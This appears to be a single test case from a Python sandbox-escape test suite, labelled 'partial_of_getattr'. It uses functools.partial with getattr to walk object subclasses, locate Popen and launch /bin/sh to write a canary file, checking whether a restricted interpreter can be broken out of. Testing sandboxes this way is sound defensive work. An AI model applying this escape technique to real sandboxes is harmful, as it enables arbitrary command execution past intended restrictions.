# id: 510
# name: partial_of_getattr
# category: interpreter
# technique: functools.partial(getattr)
# breach: file
# looks_like: CANARY_FILE is created
# imports: functools
# baseline: inproc
import functools
g = functools.partial(getattr, ())
o = getattr(g('__class__'), '__base__')
for c in getattr(o, '__subclasses__')():
    if c.__name__ == 'Popen':
        c(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
